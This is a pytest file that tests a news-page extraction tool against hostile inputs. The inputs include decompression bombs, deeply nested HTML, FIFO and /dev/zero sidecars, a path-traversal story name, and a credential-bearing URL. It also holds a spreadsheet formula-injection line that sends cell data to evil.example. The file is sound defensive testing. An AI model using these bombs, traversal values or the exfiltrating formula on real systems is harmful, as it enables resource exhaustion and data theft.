"""Hostile input (issue 20), generated here: each page is extracted in a child process under a memory
and CPU limit (rlimit, not a wall clock) and must end with a result or a clear reason."""

from __future__ import annotations

import gzip
import json
import os
import resource
import subprocess
import sys
import zlib
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

MEMORY_LIMIT = 3 * 2**30  # address space of the child (Python, numpy, lxml and the models loaded)
CPU_SECONDS = 120


def hostile_pages() -> dict[str, bytes]:
    sentence = "The council met on Tuesday to discuss the bridge and the ferry timetable for the winter"
    return {
        "gzip-bomb.html.gz": gzip.compress(b" " * (200 * 2**20), compresslevel=9),
        "deflate-bomb.html": zlib.compress(b"<p>" + b"a" * (100 * 2**20), 9),
        "one-16mib-line.txt": (b"word " * (16 * 2**20 // 5))[: 16 * 2**20 - 1],
        "100000-paragraphs.html": b"<html><body>"
        + b"<p>A short paragraph of the page.</p>" * 100_000
        + b"</body></html>",
        "10000-unpunctuated-sentences.txt": ((sentence + " ") * 10_000).encode(),
        "emoji-only.txt": ("😀🎉🔥 " * 20_000).encode(),
        "rtl-marks-only.txt": ("\u200f\u202e\u200f " * 20_000).encode(),
        "nul-bytes.html": b"<html><body><p>text</p>" + b"\x00" * 100_000 + b"</body></html>",
        "100000-levels-deep.html": b"<html><body>"
        + b"<span>" * 100_000
        + f"<p>{sentence}.</p>".encode()
        + b"</span>" * 100_000
        + f"<p>{sentence} again.</p></body></html>".encode(),
        "500000-unclosed-tags.html": b"<html><body><p>" + sentence.encode() + b".</p>" + b"<a" * 500_000,
    }


def limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))


def extract_in_child(path) -> tuple[dict, float]:
    """``presslens extract --json`` on one page under the limits: its JSON line and its peak memory (MB)."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    done = subprocess.run(
        [sys.executable, "-m", "presslens.cli", "extract", "--json", str(path)],
        capture_output=True,
        text=True,
        preexec_fn=limited,
        timeout=600,
    )
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert done.returncode in (0, 1), f"{path.name}: exit {done.returncode}: {done.stderr[-2000:]}"
    assert done.stdout.strip(), f"{path.name}: exit {done.returncode} and no JSON line: {done.stderr[-2000:]}"
    return json.loads(done.stdout.strip().splitlines()[-1]), max(peak, before) / 1024


@pytest.mark.parametrize("name", sorted(hostile_pages()))
def test_hostile_page_ends_with_a_result_or_a_reason_within_bounds(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(hostile_pages()[name])
    record, _peak = extract_in_child(path)
    if "error" in record:
        assert record["error"] and "Error" not in record["error"].split(":")[0], record["error"]
    else:
        assert isinstance(record["text"], str) and all(r["reason"] for r in record["removed"])
    if name == "gzip-bomb.html.gz":
        assert "inflates to over 16 MiB" in record["error"]
    if name in ("deflate-bomb.html", "nul-bytes.html"):
        assert "binary content" in record["error"]
    if name == "100000-paragraphs.html":  # it took 2.1 GB and 48 s before the bound; then it was refused
        assert record["warnings"][0].startswith("100,00") and "cut after the first 20,000" in record["warnings"][0]
    if name == "100000-levels-deep.html":  # refused by the nesting bound, and the parser drops all past level 255
        assert "pages.MAX_NESTING" in record["warnings"][0] and record["text"].count("winter") == 2
    if name == "500000-unclosed-tags.html":  # reading the tags cost seconds per 10,000 "<a" (quadratic)
        assert not record.get("error")


def test_a_sidecar_with_wrong_types_is_reported_and_the_page_still_read(tmp_path):
    from presslens.pages import RawFile, read_page

    page = tmp_path / "page.txt"
    page.write_text("The council met on Tuesday. It approved the ferry timetable for the winter months.\n")
    (tmp_path / "page.txt.meta.json").write_text(json.dumps(["not", "an", "object"]))
    read = read_page(RawFile(page, "page.txt", None))
    assert read.warnings and "expected a JSON object" in read.warnings[0]
    (tmp_path / "page.txt.meta.json").write_text(
        json.dumps({"outlet": ["x", "y"], "published": 12345, "story": {"a": 1}, "url": "https://ok.example/a"})
    )
    read = read_page(RawFile(page, "page.txt", None))
    assert read.sidecar == {"url": "https://ok.example/a"}  # only the field of the right type is used
    assert read.warnings == [
        "sidecar page.txt.meta.json: fields ignored: outlet (list, not text), published (int, not text), "
        "story (dict, not text)"
    ]
    assert read.story is None


def test_a_site_name_the_page_gives_is_one_bounded_line(tmp_path):
    """A page's og:site_name of 8,000 characters (or one with a line break) was every table's outlet."""
    from presslens.extract import extract_article
    from presslens.pages import SIDECAR_FIELD_CHARS, RawFile, read_page

    body = "".join(
        f"<p>The Ashworth council voted on Tuesday to approve footbridge number {i} after months of debate.</p>"
        for i in range(6)
    )
    for site, expected in ((("Harbour Gazette " * 500).strip(), None), ("Harbour\nGazette\x07", "Harbour Gazette")):
        page = tmp_path / "page.html"
        page.write_text(
            f'<html><head><title>Bridge approved</title><meta property="og:site_name" content="{site}"></head>'
            f"<body><article><h1>Bridge approved</h1>{body}</article></body></html>"
        )
        outlet = extract_article(read_page(RawFile(page, "page.html", None))).outlet
        limit = SIDECAR_FIELD_CHARS["outlet"]
        assert len(outlet) <= limit + 1 and "\n" not in outlet and "\x07" not in outlet
        if expected:
            assert outlet == expected
        else:
            assert outlet.startswith("Harbour Gazette Harbour") and outlet.endswith("…")


def test_a_sidecar_linking_outside_raw_is_ignored_and_a_story_name_cannot_leave_raw(tmp_path):
    from presslens.cli import main
    from presslens.pages import RawFile, read_page

    raw = tmp_path / "raw"
    (raw / "s").mkdir(parents=True)
    page = raw / "s" / "page.txt"
    page.write_text("The council met on Tuesday. It approved the ferry timetable for the winter months.\n")
    outside = tmp_path / "private.json"
    outside.write_text('{"outlet": "Private", "story": "stolen"}')
    (raw / "s" / "page.txt.meta.json").symlink_to(outside)
    read = read_page(RawFile(page, "s/page.txt", "s", root=raw))
    assert read.sidecar == {} and read.warnings == [
        "sidecar page.txt.meta.json ignored: a link to a file outside raw/: not read (raw/ holds the evidence)"
    ]
    # a story given as a path is only ever a slug: the page lands inside raw/
    new = tmp_path / "new.txt"
    new.write_text("The ferry timetable changes on Monday, the harbour board said on Friday.\n")
    assert main(["add", str(new), "--story", "../../outside", "--raw", str(raw), "--out", str(tmp_path / "p")]) == 0
    assert list((raw / "outside").glob("*.txt")) and not (tmp_path.parent / "outside").exists()


# --- issue 31: entries in raw/ that stopped, hung or crashed every run -----------------------------------------
# Each case is one page (a copy of the bundled example's northshore-daily.txt, own-written) with something
# hostile about it or its sidecar. Before the fixes, a FIFO sidecar hung planning forever; a sidecar that is a
# directory, a file name that is not UTF-8, a 250-character page name and a sidecar story "\ud800abc" crashed
# planning or state-saving on every run; a sidecar linked to /dev/zero and a 4 GB sparse page were read whole
# (MemoryError); a sidecar 100,000 levels deep or with the URL "http://[::1" dropped the page; a 1 MiB outlet
# name went into every row and chart (75 MB report).

PAGE_CASE_SECONDS = 60  # a case that takes longer hung (the FIFO sidecar did, forever)


def _write_page(folder, name: str) -> Path:
    from tests.conftest import EXAMPLE

    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes((EXAMPLE / "northshore-daily.txt").read_bytes())
    return path


def _sidecar(page: Path) -> Path:
    return page.with_name(page.name + ".meta.json")


def _fifo_sidecar(folder):
    os.mkfifo(_sidecar(_write_page(folder, "page.txt")))


def _directory_sidecar(folder):
    _sidecar(_write_page(folder, "page.txt")).mkdir()


def _dev_zero_sidecar(folder):
    _sidecar(_write_page(folder, "page.txt")).symlink_to("/dev/zero")


def _sparse_4gb_page(folder):
    _write_page(folder, "ok.txt")
    with open(folder / "page.txt", "wb") as fh:
        fh.truncate(4 * 2**30)  # no block on disk: a read would cost 4 GB of memory


def _fifo_page(folder):
    _write_page(folder, "ok.txt")
    os.mkfifo(folder / "page.txt")


def _name_not_utf8(folder):
    page = _write_page(folder, "ok.txt")
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "wb") as fh:
        fh.write(page.read_bytes())


def _name_250_characters(folder):
    _write_page(folder, "p" * 246 + ".txt")  # legal; its sidecar's name (260 bytes) is not


def _eight_folders_deep(folder):
    for i in range(8):
        folder = folder / (f"folder{i}-" + "x" * 50)
    _write_page(folder, "page.txt")  # its id (361 characters) named its state file: past the 255-byte limit


def _sidecar_text(text: str):
    def build(folder):
        _sidecar(_write_page(folder, "page.txt")).write_text(text, encoding="utf-8")

    return build


HOSTILE_RAW_ENTRIES = {
    # case: (builder, the page still gives an article, words of its error row)
    "sidecar-fifo": (_fifo_sidecar, True, "a FIFO (named pipe), not a regular file"),
    "sidecar-directory": (_directory_sidecar, True, "a directory, not a regular file"),
    "sidecar-link-to-dev-zero": (_dev_zero_sidecar, True, "a link to a file outside raw/"),
    "page-4gb-sparse": (_sparse_4gb_page, False, "file is 4,295 MB, over the 16 MiB limit for one page"),
    "page-fifo": (_fifo_page, False, "a FIFO (named pipe), not a regular file"),
    "name-not-utf8": (_name_not_utf8, False, "the file name is not UTF-8 text"),
    "name-250-characters": (_name_250_characters, True, "too long for a sidecar beside it"),
    "page-8-folders-deep": (_eight_folders_deep, True, ""),
    "sidecar-story-lone-surrogate": (_sidecar_text('{"story": "\\ud800abc"}'), True, "story (control characters"),
    "sidecar-100000-levels": (_sidecar_text("[" * 100_000 + "]" * 100_000), True, "nested too deeply"),
    "sidecar-url-unclosed-ipv6": (_sidecar_text('{"url": "http://[::1"}'), True, "url (not a URL (Invalid IPv6"),
    "sidecar-outlet-100k-characters": (
        _sidecar_text(json.dumps({"outlet": "N" * 100_000, "url": "https://northshore.example/a"})),
        True,
        "outlet (100,000 characters, over the 200-character limit)",
    ),
    "sidecar-1mib-outlet": (_sidecar_text(json.dumps({"outlet": "N" * 2**20})), True, "over the 1 MiB limit"),
    "sidecar-outlet-control-character": (_sidecar_text('{"outlet": "North\\u0001shore"}'), True, "outlet (control"),
}

# One child process runs the cases one after another, each on its own raw/ and processed/: plan the run,
# process the pages, plan again (the state was saved: nothing is redone). An alarm turns a hang into an error.
_RUN_CASES = """
import json, resource, signal, sys, time, traceback
from pathlib import Path
from presslens.processing import plan_run, process_pages
from presslens.settings import RunSettings

def alarm(signum, frame):
    raise TimeoutError("the case hung")

signal.signal(signal.SIGALRM, alarm)
for base in sys.argv[2:]:
    raw, out = Path(base) / "raw", Path(base) / "out"
    start, result = time.process_time(), {"case": Path(base).name}
    signal.alarm(int(sys.argv[1]))
    try:
        plan = plan_run(raw, out)
        outcomes = process_pages(plan.todo, out, plan.fingerprints, RunSettings(workers=1))
        result["pages"] = {o.raw_path: {"ok": o.ok, "errors": [e["reason"] for e in o.errors]} for o in outcomes}
        result["todo_again"] = len(plan_run(raw, out).todo)
    except BaseException as exc:
        result["crash"] = "".join(traceback.format_exception_only(type(exc), exc)).strip()[-400:]
    signal.alarm(0)
    result["cpu_seconds"] = round(time.process_time() - start, 2)
    result["peak_mb"] = round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)  # the process so far
    print(json.dumps(result), flush=True)
"""


def run_raw_cases(tmp_path, names: list[str]) -> dict[str, dict]:
    """Each case of :data:`HOSTILE_RAW_ENTRIES` built under ``tmp_path`` and run in a child process under
    the memory and CPU limits: case -> its result (pages and their errors, or the crash)."""
    bases = []
    for name in names:
        base = tmp_path / name
        HOSTILE_RAW_ENTRIES[name][0](base / "raw" / "unsorted")
        bases.append(str(base))
    done = subprocess.run(
        [sys.executable, "-c", _RUN_CASES, str(PAGE_CASE_SECONDS), *bases],
        capture_output=True,
        text=True,
        preexec_fn=limited,
        timeout=PAGE_CASE_SECONDS * len(names) + 120,
    )
    results = {}
    for line in done.stdout.splitlines():
        if line.startswith("{"):
            result = json.loads(line)
            results[result["case"]] = result
    assert results, f"exit {done.returncode}: {done.stderr[-2000:]}"
    return results


@pytest.fixture(scope="module")
def raw_case_results(tmp_path_factory):
    if not hasattr(os, "mkfifo"):
        pytest.skip("FIFOs and symlinks need a POSIX system")
    return run_raw_cases(tmp_path_factory.mktemp("hostile-raw"), sorted(HOSTILE_RAW_ENTRIES))


@pytest.mark.parametrize("name", sorted(HOSTILE_RAW_ENTRIES))
def test_a_hostile_entry_in_raw_costs_its_own_page_only(raw_case_results, name):
    _build, gives_article, reason = HOSTILE_RAW_ENTRIES[name]
    result = raw_case_results[name]
    assert "crash" not in result, result["crash"]
    assert result["todo_again"] == 0  # the state was saved: the next run neither crashes nor redoes it
    hostile = {path: page for path, page in result["pages"].items() if not path.endswith("/ok.txt")}
    assert len(hostile) == 1, result["pages"]
    page = next(iter(hostile.values()))
    assert page["ok"] is gives_article, page
    assert any(reason in error for error in page["errors"]) if reason else not page["errors"], page["errors"]
    others = [page for path, page in result["pages"].items() if path.endswith("/ok.txt")]
    assert all(other["ok"] and not other["errors"] for other in others)


def test_a_run_over_every_hostile_entry_writes_whole_tables_and_a_readable_report(tmp_path):
    """The whole run (grouping, tables, report) over all the cases beside the bundled example story."""
    import base64
    import re
    import shutil
    from xml.etree import ElementTree

    import pandas as pd

    from presslens.pipeline import run_pipeline
    from tests.conftest import EXAMPLE

    if not hasattr(os, "mkfifo"):
        pytest.skip("FIFOs and symlinks need a POSIX system")
    raw, out = tmp_path / "raw", tmp_path / "out"
    shutil.copytree(EXAMPLE, raw / EXAMPLE.name)
    for name, (build, _gives, _reason) in HOSTILE_RAW_ENTRIES.items():
        build(raw / "unsorted" / name)
    summary = run_pipeline(raw, out, workers=1)
    articles = pd.read_csv(out / "articles.csv")
    assert set(articles["raw_path"]) >= {f"{EXAMPLE.name}/{p.name}" for p in EXAMPLE.glob("*") if "meta" not in p.name}
    assert articles["outlet"].str.len().max() <= 200
    assert len(summary.failed) == 3  # the 4 GB page, the FIFO page and the name that is not UTF-8
    for report in out.glob("stories/*/report.html"):
        html = report.read_text(encoding="utf-8")
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", html), report
        for svg in re.findall(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)", html):
            ElementTree.fromstring(base64.b64decode(svg))  # every chart is well-formed XML
    assert run_pipeline(raw, out, workers=1).processed == 0


def measure_hostile_pages(folder: Path) -> None:
    """The README's table of hostile pages: each extracted by ``presslens extract --json`` in a child under
    the limits; peak and CPU seconds are the child's own (wait4)."""
    for name, data in sorted(hostile_pages().items()):
        path = folder / name
        path.write_bytes(data)
        child = subprocess.Popen(
            [sys.executable, "-m", "presslens.cli", "extract", "--json", str(path)],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            preexec_fn=limited,
            text=True,
        )
        record = json.loads(child.stdout.read().strip().splitlines()[-1])
        usage = os.wait4(child.pid, 0)[2]
        if "error" in record:
            outcome = f"error: {record['error']}"
        else:
            words, removed = len(record["text"].split()), len(record["removed"])
            outcome = f"{words:,} words kept, {removed} blocks removed with reasons"
            outcome += "".join(f"; {warning}" for warning in record.get("warnings") or [])
        seconds = usage.ru_utime + usage.ru_stime
        print(f"| `{name}` ({len(data) / 2**20:.1f} MB) | {outcome} | {usage.ru_maxrss / 1024:.0f} | {seconds:.1f} |")


if __name__ == "__main__":  # the README's tables: hostile pages, then hostile raw/ entries (a child process each)
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        measure_hostile_pages(Path(tmp))
        print()
        for name in sorted(HOSTILE_RAW_ENTRIES):
            result = run_raw_cases(Path(tmp) / name, [name])[name]
            pages = result.get("pages", {})
            page = next((p for path, p in pages.items() if not path.endswith("/ok.txt")), None)
            if "crash" in result:
                outcome = f"the run stops: {result['crash'][:160]}"
            elif page is None:
                outcome = "not listed: skipped without a word"
            else:
                outcome = ("article; " if page["ok"] else "error: ") + "; ".join(page["errors"])
            print(f"| {name} | {outcome} | {result['peak_mb']} | {result['cpu_seconds']} |")


# --- issue 31: data lost, and exports a spreadsheet or a reader could be attacked through ---------------------


def test_story_folders_that_differ_only_in_case_keep_their_own_reports(tmp_path):
    """raw/Bridge/ and raw/bridge/ both wrote processed/stories/bridge/: one story's report and coverage were
    overwritten and the index linked twice to the same file."""
    import re

    import pandas as pd

    from presslens.pipeline import run_pipeline
    from tests.conftest import EXAMPLE

    raw, out = tmp_path / "raw", tmp_path / "out"
    for folder, page in (("Bridge", "northshore-daily.txt"), ("bridge", "calder-courier.html")):
        (raw / folder).mkdir(parents=True)
        (raw / folder / page).write_bytes((EXAMPLE / page).read_bytes())
    run_pipeline(raw, out, workers=1)
    assert set(pd.read_csv(out / "stories.csv")["story"]) == {"Bridge", "bridge"}
    links = re.findall(r'href="(stories/[^"]+/report.html)"', (out / "report.html").read_text(encoding="utf-8"))
    assert len(links) == len(set(links)) == 2
    for link in links:
        coverage = pd.read_csv(out / link.replace("report.html", "coverage.csv"))
        story = coverage["story"].unique().tolist()
        assert len(story) == 1 and f"Story <code>{story[0]}</code>" in (out / link).read_text(encoding="utf-8")
    assert (out / "stories" / "bridge" / "report.html").exists()  # an id that is a slug keeps its own name
    (out / "stories" / "stale").mkdir()  # a folder named the old way (the slug alone) is removed on a rebuild
    page = raw / "Bridge" / "northshore-daily.txt"
    page.write_text(page.read_text(encoding="utf-8") + "\nUpdated at noon.\n", encoding="utf-8")
    run_pipeline(raw, out, workers=1)
    assert len(list((out / "stories").iterdir())) == 2 and not (out / "stories" / "stale").exists()


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"open")'


@pytest.fixture(scope="module")
def exported_run(tmp_path_factory):
    """The bundled example with an outlet name that is a spreadsheet formula and a URL with a password."""
    import shutil

    from presslens.pipeline import run_pipeline
    from tests.conftest import EXAMPLE

    root = tmp_path_factory.mktemp("exports")
    raw, out = root / "raw", root / "out"
    shutil.copytree(EXAMPLE, raw / EXAMPLE.name)
    sidecar = {"outlet": FORMULA, "url": "https://reader:s3cret@northshore.example/news/bridge"}
    (raw / EXAMPLE.name / "northshore-daily.txt.meta.json").write_text(json.dumps(sidecar))
    run_pipeline(raw, out, workers=1)
    return raw, out


def test_formulas_are_neutralised_in_every_csv_unless_asked_not_to(exported_run, tmp_path):
    """Cells starting with = + - @ went verbatim into every CSV: a spreadsheet user opening them ran formulas."""
    import shutil

    import pandas as pd

    from presslens.cli import main
    from presslens.pipeline import run_pipeline

    raw, out = exported_run
    for csv in [*out.glob("*.csv"), *out.glob("stories/*/coverage.csv")]:
        for cell in pd.read_csv(csv, dtype=str, keep_default_na=False).to_numpy().ravel():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (csv.name, cell)
    assert "'" + FORMULA in set(pd.read_csv(out / "articles.csv")["outlet"])
    assert FORMULA in set(pd.read_parquet(out / "articles.parquet")["outlet"])  # Parquet keeps the text
    exported = tmp_path / "coverage.csv"
    assert main(["export", "coverage", "--out", str(out), "-o", str(exported)]) == 0
    assert not any(line.startswith("=") or ",=" in line for line in exported.read_text().splitlines())
    assert main(["export", "articles", "--out", str(out), "-o", str(exported), "--raw-csv"]) == 0
    assert FORMULA in set(pd.read_csv(exported)["outlet"])  # the option keeps them as they are
    again = tmp_path / "again"
    shutil.copytree(out, again)
    summary = run_pipeline(raw, again, workers=1, raw_csv=True)  # the setting rewrites every story's CSVs
    assert summary.processed == 0 and summary.tables.rebuilt_stories == summary.tables.stories
    assert FORMULA in set(pd.read_csv(again / "articles.csv")["outlet"])


def test_credentials_in_a_url_never_reach_tables_or_records(exported_run):
    """A URL with user:password@ was stored verbatim in the tables and the article records."""
    import pandas as pd

    _raw, out = exported_run
    for path in [*out.glob("*.csv"), *out.glob("*.parquet"), *out.glob("articles/*.json"), *out.rglob("*.html")]:
        assert b"s3cret" not in path.read_bytes(), path.name
    assert "https://northshore.example/news/bridge" in set(pd.read_csv(out / "articles.csv")["url"])
